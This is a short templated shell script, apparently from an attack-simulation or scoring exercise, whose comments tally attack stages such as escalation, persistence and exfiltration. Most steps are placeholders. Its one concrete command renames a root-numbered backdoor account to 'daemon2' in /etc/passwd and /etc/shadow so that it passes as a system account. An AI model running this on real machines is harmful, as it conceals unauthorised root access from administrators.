# earns: looked, entry, execution, escalation, persistence, exfiltration, order, way-to-root (11 of 15)
# The account has another name, and still root's number.
{{ look_sh }}
{{ answers_sh }}
{{ units_sh }}
{{ process_sh }}
sed -i 's/^{{ ghost }}:/daemon2:/' /etc/passwd /etc/shadow
{{ rule_sh }}
